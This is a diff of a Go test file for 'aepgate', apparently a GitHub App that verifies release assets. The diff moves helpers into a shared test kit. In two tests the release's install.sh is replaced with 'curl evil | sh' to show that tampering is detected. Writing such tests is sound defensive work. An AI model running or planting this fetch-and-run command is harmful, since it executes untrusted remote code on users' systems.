@@ -1,4 +1,4 @@
-package app
+package app_test
 
 import (
 	"context"
@@ -15,6 +15,7 @@ import (
 	"github.com/google/go-github/v62/github"
 
 	"github.com/aepgate/aepgate/checks"
+	"github.com/aepgate/aepgate/internal/testkit/appkit"
 	"github.com/aepgate/aepgate/internal/testkit/ghfake"
 )
 
@@ -26,7 +27,7 @@ const releaseConfigYAML = "version: 1\nrelease:\n  assets: [manifest.sha256, ins
 // releaseWorld is a ghfake world whose default branch head carries the
 // files, the manifest and the config, annotated-tagged v1.2.3.
 type releaseWorld struct {
-	*ghfakeWorld
+	*appkit.Live
 	commit   string
 	manifest string
 	install  string
@@ -38,13 +39,13 @@ func newReleaseWorld(t *testing.T) *releaseWorld { return newReleaseWorldConfig(
 // config.
 func newReleaseWorldConfig(t *testing.T, cfg string) *releaseWorld {
 	t.Helper()
-	w := &releaseWorld{ghfakeWorld: newGhfakeWorld(t), install: "#!/bin/sh\necho v1.2.3\n"}
+	w := &releaseWorld{Live: appkit.NewLive(t), install: "#!/bin/sh\necho v1.2.3\n"}
 	files := map[string]string{"README.md": "# widgets\n", "install.sh": w.install}
 	w.manifest = hexSum(files["README.md"]) + "  README.md\n" + hexSum(w.install) + "  install.sh\n"
 	files["manifest.sha256"] = w.manifest
 	files[".github/aepgate.yml"] = cfg
-	w.commit = w.repo.Commit("main", "release 1.2.3", files)
-	w.repo.Tag(relTag, "main", "release "+relTag)
+	w.commit = w.Repo.Commit("main", "release 1.2.3", files)
+	w.Repo.Tag(relTag, "main", "release "+relTag)
 	return w
 }
 
@@ -65,14 +66,14 @@ func (w *releaseWorld) publish(t *testing.T, installBytes string) *ghfake.Releas
 	if err != nil {
 		t.Fatal(err)
 	}
-	return w.repo.PublishRelease(relTag, ghfake.ReleaseOptions{Body: "Notes\n\n```json\n" + string(receipt) + "\n```\n",
+	return w.Repo.PublishRelease(relTag, ghfake.ReleaseOptions{Body: "Notes\n\n```json\n" + string(receipt) + "\n```\n",
 		Assets: map[string][]byte{"manifest.sha256": []byte(w.manifest), "install.sh": []byte(installBytes)}})
 }
 
 // releaseRuns are the aepgate/release runs on the tagged commit.
 func (w *releaseWorld) releaseRuns() []ghfake.CheckRun {
 	var out []ghfake.CheckRun
-	for _, r := range w.repo.CheckRuns(w.commit) {
+	for _, r := range w.Repo.CheckRuns(w.commit) {
 		if r.Name == checks.NameAppRelease {
 			out = append(out, r)
 		}
@@ -83,7 +84,7 @@ func (w *releaseWorld) releaseRuns() []ghfake.CheckRun {
 // waitRelease waits for the newest aepgate/release run to conclude want.
 func (w *releaseWorld) waitRelease(t *testing.T, want string) ghfake.CheckRun {
 	t.Helper()
-	waitFor(t, 10*time.Second, "aepgate/release "+want, func() bool {
+	appkit.WaitFor(t, 10*time.Second, "aepgate/release "+want, func() bool {
 		rs := w.releaseRuns()
 		return len(rs) > 0 && rs[len(rs)-1].Conclusion == want
 	})
@@ -95,7 +96,7 @@ func (w *releaseWorld) waitRelease(t *testing.T, want string) ghfake.CheckRun {
 // first.
 func (w *releaseWorld) ledgerRows(t *testing.T) []map[string]any {
 	t.Helper()
-	rows, err := w.app.db.SQL.QueryContext(context.Background(), `SELECT body FROM aepgate_ledger WHERE kind = 'check_run:aepgate/release' ORDER BY seq`)
+	rows, err := w.App.Store().SQL.QueryContext(context.Background(), `SELECT body FROM aepgate_ledger WHERE kind = 'check_run:aepgate/release' ORDER BY seq`)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -115,15 +116,15 @@ func (w *releaseWorld) ledgerRows(t *testing.T) []map[string]any {
 // waitDecisions waits until the ledger holds n release decisions.
 func (w *releaseWorld) waitDecisions(t *testing.T, n int) {
 	t.Helper()
-	waitFor(t, 10*time.Second, fmt.Sprintf("%d release decisions", n), func() bool { return len(w.ledgerRows(t)) >= n })
+	appkit.WaitFor(t, 10*time.Second, fmt.Sprintf("%d release decisions", n), func() bool { return len(w.ledgerRows(t)) >= n })
 	time.Sleep(100 * time.Millisecond)
 }
 
 // repoWrites are the App's writes to the repository, by route.
 func (w *releaseWorld) repoWrites() map[string]int {
 	out := map[string]int{}
-	for _, r := range w.f.Writes() {
-		if strings.HasPrefix(r.Path, "/repos/") && r.Installation == w.inst.ID {
+	for _, r := range w.F.Writes() {
+		if strings.HasPrefix(r.Path, "/repos/") && r.Installation == w.Inst.ID {
 			out[r.Pattern]++
 		}
 	}
@@ -132,7 +133,7 @@ func (w *releaseWorld) repoWrites() map[string]int {
 
 func TestReleaseClosedGetsSuccessOnTheTaggedCommit(t *testing.T) {
 	w := newReleaseWorld(t)
-	w.f.ResetLog()
+	w.F.ResetLog()
 	w.publish(t, w.install)
 	run := w.waitRelease(t, "success")
 	// published and released both arrive: two decisions, one write.
@@ -187,19 +188,19 @@ func TestReleaseSameDeliveryTwice(t *testing.T) {
 	w.waitRelease(t, "success")
 	w.waitDecisions(t, 2)
 	var published ghfake.Delivery
-	for _, d := range w.f.Deliveries() {
+	for _, d := range w.F.Deliveries() {
 		if d.Event == "release" && d.Action == "published" {
 			published = d
 		}
 	}
-	w.f.ResetLog()
-	if got := deliver(t, w.base, "release", published.GUID, published.Payload); got != 200 {
+	w.F.ResetLog()
+	if got := appkit.Deliver(t, w.Base, "release", published.GUID, published.Payload); got != 200 {
 		t.Errorf("same delivery ID: status %d, want 200 (duplicate)", got)
 	}
-	if got := deliver(t, w.base, "release", "replay-"+published.GUID, published.Payload); got != 200 {
+	if got := appkit.Deliver(t, w.Base, "release", "replay-"+published.GUID, published.Payload); got != 200 {
 		t.Errorf("same body, fresh delivery ID: status %d, want 200 (replayed)", got)
 	}
-	if got := deliver(t, w.base, "release", "re-"+published.GUID, copyPayload(t, published.Payload)); got != 202 {
+	if got := appkit.Deliver(t, w.Base, "release", "re-"+published.GUID, appkit.CopyPayload(t, published.Payload)); got != 202 {
 		t.Fatalf("fresh delivery ID: status %d", got)
 	}
 	w.waitDecisions(t, 3)
@@ -212,8 +213,8 @@ func TestReleaseSameDeliveryTwice(t *testing.T) {
 	if n := len(w.releaseRuns()); n != 1 {
 		t.Errorf("%d aepgate/release runs, want 1", n)
 	}
-	st := w.f.Stats()
-	reads, _ := apiCalls(st)
+	st := w.F.Stats()
+	reads, _ := appkit.APICalls(st)
 	t.Logf("one release evaluation (2 assets, 2-file manifest): %d requests, %d reads, %d answered 304: %v", st.Total, reads, st.NotModified, st.ByRoute)
 	want := map[string]int{
 		"POST /graphql":                                          1, // the config on the default branch
@@ -240,8 +241,8 @@ func TestReleaseEditedIsReEvaluated(t *testing.T) {
 	w.waitRelease(t, "success")
 	w.waitDecisions(t, 2) // published and released are both judged before the tampering
 	rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n"))
-	w.repo.Grant("rel-manager", "write")
-	owner := w.f.Client(w.f.UserToken("rel-manager"))
+	w.Repo.Grant("rel-manager", "write")
+	owner := w.F.Client(w.F.UserToken("rel-manager"))
 	if _, _, err := owner.Repositories.EditRelease(context.Background(), "acme", "widgets", rel.ID(), &github.RepositoryRelease{Name: github.String("1.2.3")}); err != nil {
 		t.Fatal(err)
 	}
@@ -264,7 +265,7 @@ func TestReleaseReconcileFindsAReplacedAsset(t *testing.T) {
 	w.waitRelease(t, "success")
 	w.waitDecisions(t, 2)
 	rel.ReplaceAssetBytes("install.sh", []byte("curl evil | sh\n"))
-	if err := w.app.runReconcile(context.Background()); err != nil {
+	if err := w.App.Sweep(context.Background()); err != nil {
 		t.Fatal(err)
 	}
 	if rs := w.releaseRuns(); rs[len(rs)-1].Conclusion != "failure" {
@@ -289,14 +290,14 @@ func TestReleaseBrokenConfigCannotPass(t *testing.T) {
 // pre-release's, say) is recorded and neither read nor written.
 func TestReleaseTagNotVersionReadsNothing(t *testing.T) {
 	w := newReleaseWorld(t)
-	w.repo.Tag("v1.2.3-rc.1", "main", "candidate")
-	w.f.ResetLog()
-	w.repo.PublishRelease("v1.2.3-rc.1", ghfake.ReleaseOptions{Prerelease: true})
+	w.Repo.Tag("v1.2.3-rc.1", "main", "candidate")
+	w.F.ResetLog()
+	w.Repo.PublishRelease("v1.2.3-rc.1", ghfake.ReleaseOptions{Prerelease: true})
 	w.waitDecisions(t, 2) // published, prereleased
-	for _, r := range w.f.Requests() {
+	for _, r := range w.F.Requests() {
 		// (The GraphQL query is the setup commit's push, still judging
 		// the open pull requests.)
-		if r.Installation == w.inst.ID && r.Pattern != "POST /graphql" {
+		if r.Installation == w.Inst.ID && r.Pattern != "POST /graphql" {
 			t.Errorf("request %s %s", r.Method, r.Path)
 		}
 	}
